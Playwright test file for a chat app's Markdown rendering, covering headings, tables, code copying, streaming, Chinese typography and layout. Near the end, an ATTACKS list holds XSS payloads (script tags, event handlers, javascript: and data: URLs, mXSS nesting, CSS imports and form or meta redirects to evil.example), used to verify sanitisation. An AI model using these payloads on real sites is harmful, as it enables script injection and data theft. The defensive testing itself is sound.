// Rendered Markdown: while it streams, and never as raw markup.

import { expect, test } from '../support/fixtures';

test('M2: every Markdown element is rendered', async ({ page, chat, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await chat.ask('Explain static files.', 'markdown');
  const reply = chat.replies.last();

  await expect(reply.getByRole('heading', { name: 'A long answer' })).toBeVisible();
  await expect(reply.getByRole('heading', { name: '1. Serving a file over HTTP' })).toBeVisible();
  await expect(reply.getByRole('emphasis').first()).toHaveText('few lines');
  await expect(reply.getByRole('strong').first()).toHaveText('ranges');
  await expect(reply.getByRole('listitem').filter({ hasText: 'Open the file.' }).first()).toBeVisible();
  await expect(reply.getByRole('checkbox', { name: 'Done' }).first()).toBeChecked();
  await expect(reply.getByRole('checkbox', { name: 'Open' }).first()).not.toBeChecked();
  await expect(reply.getByRole('blockquote').first()).toContainText('A cache that cannot be invalidated');

  const table = reply.getByRole('region', { name: 'Table' }).first();
  await expect(table.getByRole('columnheader')).toHaveText(['Header', 'Meaning', '例']);
  await expect(table.getByRole('row')).toHaveCount(4);

  const link = reply.getByRole('link', { name: 'the specification' }).first();
  await expect(link).toHaveAttribute('href', 'https://httpwg.org/specs/rfc9110.html');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');

  // Not loaded before it is asked for; the watch would report a request.
  await expect(reply.getByRole('button', { name: "Show image A diagram of the request's way — example.com" }).first()).toBeEnabled();
  await expect(reply.getByRole('img')).toHaveCount(0);
  await expect(reply.getByText(`<div onclick="alert('raw HTML is text')">`).first()).toBeVisible();

  const code = reply.getByRole('group', { name: 'Code rust' }).first();
  await expect(code).toContainText('A "quoted" string & an <angle> bracket must survive.');
  await reply.getByRole('button', { name: 'Copy' }).first().click();
  await expect(reply.getByRole('button', { name: 'Copied' })).toBeVisible();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toBe((await code.textContent())?.trimEnd());
  expect(copied).toMatch(/^use std::\{fs, io, path::Path\};\n/);
});

test('a streamed reply renders like a loaded one', async ({ page, chat }) => {
  await chat.choose('lecture');
  await chat.say('Explain static files.');
  await expect(chat.lastReply.getByRole('table').first()).toBeVisible();
  await expect(chat.stop).toBeVisible();
  await chat.finished();
  // Comment nodes are markers of the framework and invisible.
  const shown = async () => {
    // The text ends with a formula, which is set last.
    await expect(chat.lastReply.locator('.md-math:not(.md-set)')).toHaveCount(0);
    return (await chat.lastReply.innerHTML()).replaceAll(/<!--.*?-->/g, '');
  };
  const streamed = await shown();
  await page.reload();
  await expect(chat.lastReply.getByRole('table').first()).toBeVisible();
  expect(await shown()).toBe(streamed);
});

test('blocks keep their spacing in long texts', async ({ chat }) => {
  // Every kind of block in turn. Seven kinds, so that they do not align with the part size.
  const blocks = ['## H', 'p', 'p', '---', 'p', '- l', '> q'];
  await chat.ask(Array.from({ length: 16 }, () => blocks).flat().join('\n\n'), 'echo');
  const distances = await chat.lastReply.evaluate((reply) => {
    const shown = [...reply.querySelectorAll('h3, h4, h5, h6, hr, ul, blockquote, p')].filter(
      (block) => !block.parentElement?.closest('ul, blockquote'),
    );
    const found: Record<string, number[]> = {};
    for (const [at, block] of shown.slice(1).entries()) {
      const between = Math.round(block.getBoundingClientRect().top - shown[at].getBoundingClientRect().bottom);
      (found[`${shown[at].tagName} ${block.tagName}`] ??= []).push(between);
    }
    return found;
  });
  expect(Object.values(distances).flat()).toHaveLength(16 * blocks.length - 1);
  for (const [pair, all] of Object.entries(distances)) {
    expect(Math.max(...all) - Math.min(...all), `${pair}: ${all.join(', ')}`).toBeLessThan(2);
  }
});

test('M2: copying a reply copies its Markdown', async ({ page, chat, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const text = '## Two\n\n1. *one*\n2. `two`';
  await chat.ask(text, 'echo');
  await chat.lastReply.getByRole('button', { name: 'Copy' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Copied' })).toHaveCount(1);
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(text);
});

test('formulas, prices, Chinese emphasis, nested fences and line breaks read as they were meant', async ({ chat }) => {
  const text = [
    'The area is \\( A = a_1*b_2*c_3 \\), for $30-$45.',
    '\\[\nx\n+ y_1\n\\]',
    '**票价：**45元',
    'Roses are red\nViolets are blue',
    '```markdown\n# File\n```js\nx\n```\n```\n\nAfter it.',
  ].join('\n\n');
  await chat.ask(text, 'slowEcho');
  const paragraphs = chat.lastReply.getByRole('paragraph');
  await expect(paragraphs.first()).toHaveText(/^The area is A=a1\W?∗\W?b2\W?∗\W?c3, for \$30-\$45\.$/);
  await expect(chat.lastReply.locator('math[display=block]')).toHaveText(/^x\+y1$/);
  await expect(chat.lastReply.getByRole('strong')).toHaveText('票价：');
  expect(await paragraphs.filter({ hasText: 'Roses' }).innerText()).toBe('Roses are red\nViolets are blue');
  await expect(chat.lastReply.getByRole('group', { name: 'Code markdown' })).toHaveText('# File\n```js\nx\n```\n');
  await expect(paragraphs.last()).toHaveText('After it.');
});

test('alerts, details, tags and addresses are rendered', async ({ page, chat }) => {
  const text = [
    'About H<sub>2</sub>O, x<sup>2</sup> and <kbd>Ctrl</kbd>: www.example.com or me@example.com.',
    '> [!WARNING]\n> This *deletes* everything.',
    '<details>\n<summary>The `log`</summary>\n\n- one\n- two\n\n</details>',
    '![mine](/api/files/0198a0b0-0000-7000-8000-00000000000a/content)',
    'End.',
  ].join('\n\n');
  await page.route('**/api/files/*/content', (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"/>' }),
  );
  await chat.ask(text, 'slowEcho');
  const reply = chat.lastReply;
  await expect(reply.locator('sub')).toHaveText('2');
  await expect(reply.locator('sup')).toHaveText('2');
  await expect(reply.locator('kbd')).toHaveText('Ctrl');
  await expect(reply.getByRole('link', { name: 'www.example.com' })).toHaveAttribute('href', 'http://www.example.com');
  await expect(reply.getByRole('link', { name: 'me@example.com' })).toHaveAttribute('href', 'mailto:me@example.com');
  const alert = reply.getByRole('note');
  await expect(alert).toHaveText('WarningThis deletes everything.');
  await expect(reply.getByRole('listitem')).toHaveCount(0);
  await reply.getByText('The log').click();
  await expect(reply.getByRole('listitem')).toHaveText(['one', 'two']);
  await expect(reply.getByRole('img', { name: 'mine' })).toHaveJSProperty('naturalWidth', 40);
});

test('a wide table scrolls within itself', async ({ page, chat }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  const row = `|${' a rather long cell |'.repeat(8)}`;
  await chat.ask(`Table:\n\n${row}\n|${':-:|'.repeat(8)}\n${row}`, 'echo');
  const table = chat.lastReply.getByRole('region', { name: 'Table' });
  expect(await table.evaluate((element) => element.scrollWidth - element.clientWidth)).toBeGreaterThan(100);
  expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBe(0);
  expect(await table.getByRole('cell').first().evaluate((cell) => getComputedStyle(cell).textAlign)).toBe('center');
});

test('A3: Chinese is set like Chinese, and the language is named', async ({ chat }) => {
  await chat.ask('## 一个中文标题\n\n这是*强调*的文字，and *English* too.', 'echo');
  const text = chat.lastReply.locator('.md');
  await expect(text).toHaveAttribute('lang', 'zh');
  const styles = await text.evaluate((root) => {
    const style = (element: Element | null) => (element ? getComputedStyle(element) : undefined);
    const [han, latin] = [...root.querySelectorAll('em')].map(style);
    const heading = style(root.querySelector('h4'));
    return [han?.fontStyle, han?.textEmphasisStyle, latin?.fontStyle, heading?.letterSpacing, heading?.textWrapStyle];
  });
  expect(styles).toEqual(['normal', expect.stringMatching(/dot/), 'italic', 'normal', 'auto']);
  await chat.ask('## A heading\n\nThis is plain English.', 'echo');
  await expect(chat.lastReply.locator('.md')).toHaveAttribute('lang', 'en');
  await expect(chat.questions.first().locator('.md')).toHaveAttribute('lang', 'zh');
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<style>@import "//evil.example/a.css"; body { background: url(//evil.example/b) }</style>',
  '<link rel=stylesheet href=//evil.example/c.css><base href=//evil.example/>',
  '<form action=//evil.example><button>send</button></form><meta http-equiv=refresh content="0;url=//evil.example">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java\tscript:alert(1)) [d](vbscript:x)',
  '[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(1)>',
  '![f](javascript:alert(1)) ![g](https://evil.example/pixel.png) ![h](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[![i](https://evil.example/j.png)](https://evil.example/k)',
  '[l]: javascript:alert(1)\n[l]\n\n[m](//evil.example "\\" onmouseover=\\"alert(1)")',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [n](javascript:alert(1)) |',
  '$\\href{javascript:alert(1)}{x}$ <a href="javascript:alert(1)" onclick=alert(1)>o</a>',
  '[^p]\n\n[^p]: <img src=x onerror=alert(1)>',
];

for (const way of ['streams', 'is loaded'] as const) {
  test(`nothing that a model writes becomes markup when it ${way}`, async ({ page, chat }) => {
    const attack = ATTACKS.join('\n\n');
    await chat.ask(attack, way === 'streams' ? 'slowEcho' : 'echo');
    if (way === 'is loaded') {
      await page.reload();
      await expect(chat.replies).toHaveCount(1);
    }
    const reply = chat.lastReply;
    await expect(reply).toContainText('<script>alert(1)</script>');
    const active = 'script, style, iframe, object, embed, img, svg image, form, link, base, meta, math, details, video, audio';
    await expect(reply.locator(active)).toHaveCount(0);
    const wrong = await reply.evaluate((article) =>
      [...article.querySelectorAll('.md *')].flatMap((element) =>
        [...element.attributes]
          .filter(({ name, value }) => /^on|^style$|^srcdoc$|^formaction$/.test(name) || /^\s*(javascript|vbscript|data):/i.test(value))
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ),
    );
    expect(wrong).toEqual([]);
    for (const link of await reply.getByRole('link').all()) {
      await expect(link).toHaveAttribute('href', /^(https?|mailto):/);
      await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    }
  });
}
